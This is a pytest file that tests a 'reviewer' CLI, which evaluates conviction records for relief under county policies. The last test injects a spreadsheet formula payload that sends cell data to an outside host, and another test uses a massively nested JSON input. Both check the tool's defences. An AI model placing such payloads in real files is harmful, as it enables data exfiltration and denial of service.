"""`reviewer evaluate` refusing an absent county, `reviewer policy new|show`, `reviewer whatif`: as a user runs them."""
from __future__ import annotations

import csv
import json
import os
import subprocess
import sys

import pytest
from sqlalchemy import func, select

from reviewer.ingest.synthetic import write_demo_file
from reviewer.store import models as m
from reviewer.store.database import Database

ENV = {**os.environ, "REVIEWER_USER": "cli-test"}
AS_OF = "2024-01-01"


def run(*args):
    return subprocess.run([sys.executable, "-m", "reviewer", *map(str, args)], capture_output=True, text=True,
                          env=ENV, timeout=300)


@pytest.fixture
def imported(db_url, tmp_path):
    source = tmp_path / "doj.dat"
    write_demo_file(source, rows=1500, county="LOS ANGELES", seed=16)
    done = run("import", source, "--db", db_url)
    assert done.returncode == 0, done.stderr
    return db_url


def test_evaluate_refuses_a_county_absent_from_the_database(imported):
    done = run("evaluate", "--db", imported, "--county", "Los Angelos", "--as-of", AS_OF, "--workers", "1")
    assert done.returncode == 2
    assert "LOS ANGELOS" in done.stderr and "counties present: LOS ANGELES (" in done.stderr
    assert "Traceback" not in done.stderr and done.stdout == ""
    db = Database(imported)
    with db.engine.connect() as conn:
        assert conn.execute(select(func.count()).select_from(m.EvaluationRun)).scalar() == 0
    db.dispose()
    fine = run("evaluate", "--db", imported, "--county", "los angeles", "--as-of", AS_OF, "--workers", "1")
    assert fine.returncode == 0, fine.stderr


def test_evaluate_on_an_empty_database_says_to_import_first(tmp_path):
    done = run("evaluate", "--db", tmp_path / "empty.db", "--county", "Alameda", "--as-of", AS_OF)
    assert done.returncode == 2 and "import the DOJ research files first" in done.stderr


def test_policy_new_writes_a_file_the_engine_reads_and_show_says_it_in_words(tmp_path):
    out = tmp_path / "office.json"
    done = run("policy", "new", "--from", "los-angeles-pilot-2019", "--out", out, "--name", "Our office 2025")
    assert done.returncode == 0, done.stderr
    doc = json.loads(out.read_text(encoding="utf-8"))
    shipped = json.loads((__import__("reviewer.resources", fromlist=["x"]).shipped_policies()
                          ["los-angeles-pilot-2019"]).read_text(encoding="utf-8"))
    assert doc["name"] == "Our office 2025" and doc["version"] == "1" and doc["rules"] == shipped["rules"]
    assert doc["based_on"].startswith("Los Angeles pilot flow v2019.1 (")
    again = run("policy", "new", "--from", "los-angeles-pilot-2019", "--out", out)
    assert again.returncode == 2 and "exists already" in again.stderr
    shown = run("policy", "show", out)
    assert shown.returncode == 0, shown.stderr
    lines = shown.stdout.splitlines()
    assert lines[0].startswith("Our office 2025, version 1 (SHA-256 ")
    assert "1. If the conviction is a misdemeanor or infraction: refer it to another agency" in shown.stdout
    assert "2. If the conviction is dated 2016-11-09 or later: not eligible" in shown.stdout
    assert "3. If the conviction is under HS 11357(a) or HS 11357(b): dismiss and seal" in shown.stdout
    assert "8. If the person is 50 or older today: dismiss and seal" in shown.stdout
    assert lines[-1] == "Otherwise: an attorney reviews it — “No applicable eligibility criteria”."
    unknown = run("policy", "new", "--from", "los-angeles-2019", "--out", tmp_path / "x.json")
    assert unknown.returncode == 2 and "shipped policies: " in unknown.stderr


def test_policy_show_names_the_field_of_a_broken_file(tmp_path):
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps({"format": "reviewer-policy", "name": "x", "version": "1",
                               "rules": [{"when": {"age_at_least": "fifty"}, "suggest": "DISMISS_AND_SEAL",
                                          "reason": "old"}]}), encoding="utf-8")
    done = run("policy", "show", bad)
    assert done.returncode == 2 and "rules[0].when.age_at_least" in done.stderr and "Traceback" not in done.stderr


@pytest.mark.parametrize("depth", [900, 100_000])
def test_a_policy_nested_too_deeply_is_refused_by_name(tmp_path, depth):
    deep = tmp_path / "deep.json"
    deep.write_text('{"format": "reviewer-policy", "format_version": 1, "name": "x", "version": "1", "rules": [], '
                    '"otherwise": {"suggest": "NEEDS_REVIEW", "reason": "r"}, "description": '
                    + "[" * depth + "]" * depth + "}", encoding="utf-8")
    for args in (("policy", "show", deep), ("policy", "new", "--from", deep, "--out", tmp_path / "new.json")):
        done = run(*args)
        assert "Traceback" not in done.stderr and "RecursionError" not in done.stderr, done.stderr
        if depth > 1000:
            assert done.returncode == 2 and "deep.json" in done.stderr and "too deeply" in done.stderr


def _snapshot(url: str) -> dict:
    """Everything a what-if must leave as it was."""
    db = Database(url)
    with db.engine.connect() as conn:
        snap = {
            "evaluations": conn.execute(select(m.Evaluation.id, m.Evaluation.current, m.Evaluation.suggestion)
                                        .order_by(m.Evaluation.id)).all(),
            "runs": conn.execute(select(func.count()).select_from(m.EvaluationRun)).scalar(),
            "reviews": conn.execute(select(m.Review.conviction_id, m.Review.status, m.Review.outcome,
                                           m.Review.version).order_by(m.Review.conviction_id)).all(),
            "decisions": conn.execute(select(m.Decision.id, m.Decision.outcome, m.Decision.undone_at)
                                      .order_by(m.Decision.id)).all(),
            "audit": conn.execute(select(m.AuditEntry.hash).order_by(m.AuditEntry.id)).all(),
        }
    db.dispose()
    return snap


def _run_suggestions(url: str, run_id: int) -> dict[int, str]:
    db = Database(url)
    with db.engine.connect() as conn:
        rows = conn.execute(select(m.Evaluation.conviction_id, m.Evaluation.suggestion)
                            .where(m.Evaluation.run_id == run_id)).all()
    db.dispose()
    return dict(rows)


def test_whatif_lists_exactly_what_a_real_second_evaluation_changes_and_writes_nothing(imported, tmp_path):
    first = run("evaluate", "--db", imported, "--county", "LOS ANGELES", "--as-of", AS_OF, "--workers", "1")
    assert first.returncode == 0, first.stderr
    accepted = run("accept", "--db", imported, "--user", "Ada Attorney", "--bar-number", "123456",
                   "--suggestion", "REDESIGNATE_MISDEMEANOR")
    assert accepted.returncode == 0 and "accepted" in accepted.stdout
    policy = tmp_path / "office.json"
    assert run("policy", "new", "--from", "los-angeles-pilot-2019", "--out", policy).returncode == 0

    before = _snapshot(imported)
    out = tmp_path / "whatif.csv"
    done = run("whatif", "--db", imported, "--policy", policy, "--csv", out, "--table")
    assert done.returncode == 0, done.stderr
    assert _snapshot(imported) == before  # no evaluation, review, decision or audit entry written
    with open(out, newline="", encoding="utf-8") as fh:
        listed = {int(r["conviction_id"]): r for r in csv.DictReader(fh)}
    assert listed and "Nothing was written." in done.stdout
    assert f"would change the suggestion of {len(listed):,} of " in done.stdout

    # The second evaluation, run for real: what-if must have listed exactly the convictions it changed.
    second = run("evaluate", "--db", imported, "--county", "LOS ANGELES", "--as-of", AS_OF, "--policy", policy,
                 "--workers", "1")
    assert second.returncode == 0, second.stderr
    old, new = _run_suggestions(imported, 1), _run_suggestions(imported, 2)
    changed = {cid for cid in new if old.get(cid) != new[cid]}
    assert set(listed) == changed
    assert all(listed[cid]["whatif_suggestion"] == new[cid] and listed[cid]["current_suggestion"] == old[cid]
               for cid in changed)
    db = Database(imported)
    with db.engine.connect() as conn:
        decided = {cid for cid, in conn.execute(select(m.Review.conviction_id).where(m.Review.outcome.is_not(None)))}
    db.dispose()
    assert {cid for cid, r in listed.items() if r["decided"] == "yes"} == changed & decided
    assert changed & decided  # the accepted redesignations are among them
    assert f"{len(changed & decided):,} already decided" in done.stdout
    # The impact it announced is the one the summary now reports for the real run.
    summary = run("summary", "--db", imported)
    figures = next(line for line in summary.stdout.splitlines() if line.startswith("persons if suggestions"))
    announced = done.stdout.split("Persons with no felony left: ")[1]
    no_felony = announced.split(" with the change")[0].split(", ")[-1]
    no_conviction = announced.split("with no conviction left: ")[1].split(" with the change")[0].split(", ")[-1]
    assert f"no felony {no_felony}," in figures and f"no conviction {no_conviction}," in figures


def test_whatif_before_any_evaluation_is_a_usage_error(imported):
    done = run("whatif", "--db", imported, "--policy", "los-angeles-pilot-2019")
    assert done.returncode == 2 and "evaluate" in done.stderr


def test_whatif_csv_cells_cannot_run_as_formulas_and_the_file_is_the_owners(tmp_path):
    """A name from the DOJ file that starts with = would run in Excel; the what-if CSV writes it as text,
    and a file that was there already is made the owner's only (it lists names and CII numbers)."""
    import os
    import stat

    source, db = tmp_path / "doj.csv", str(tmp_path / "r.db")
    write_demo_file(source, rows=1500, county="LOS ANGELES", seed=16)
    assert run("import", source, "--db", db).returncode == 0
    assert run("evaluate", "--db", db, "--county", "LOS ANGELES", "--as-of", AS_OF, "--workers", "1").returncode == 0
    poisoned = '=HYPERLINK("http://x/?"&A1,"x")'
    database = Database(db)
    with database.engine.begin() as conn:
        conn.execute(m.Person.__table__.update().values(name=poisoned))
    database.dispose()
    out = tmp_path / "whatif.csv"
    out.write_text("")
    out.chmod(0o644)
    done = run("whatif", "--db", db, "--policy", "los-angeles-pilot-2019", "--csv", out)
    assert done.returncode == 0, done.stderr
    with open(out, newline="", encoding="utf-8") as fh:
        names = {r["name"] for r in csv.DictReader(fh)}
    assert names == {"'" + poisoned}
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600
